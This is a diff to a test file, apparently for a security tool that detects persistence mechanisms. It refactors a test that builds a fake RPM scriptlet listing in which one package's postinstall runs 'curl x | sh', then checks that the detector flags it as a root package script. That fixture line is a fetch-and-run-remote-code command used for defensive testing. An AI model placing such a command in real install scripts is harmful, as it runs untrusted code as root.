@@ -90,8 +90,9 @@ def test_other_programs_of_a_command_are_named(home):
 
 
 def test_scripts_of_rpm_packages(home):
-    home.give(b"live/commands/rpm-scripts.txt", b"".join(
-        b"package p%d-1\npostinstall scriptlet (using /bin/sh):\n%s\n" % (number, b"curl x | sh" if number == 70 else b"ldconfig" * 900) for number in range(99)))
+    package = b"package p%d-1\npostinstall scriptlet (using /bin/sh):\n%s\n"
+    scripts = [b"curl x | sh" if number == 70 else b"ldconfig" * 900 for number in range(99)]
+    home.give(b"live/commands/rpm-scripts.txt", b"".join(package % pair for pair in enumerate(scripts)))
     (row,) = told(home)["persistence"]
     assert (row["mechanism"], row["trigger"], row["line"], row["user"]) == ("package_script", "rpm: a script of p70-1", 213, "root")
 
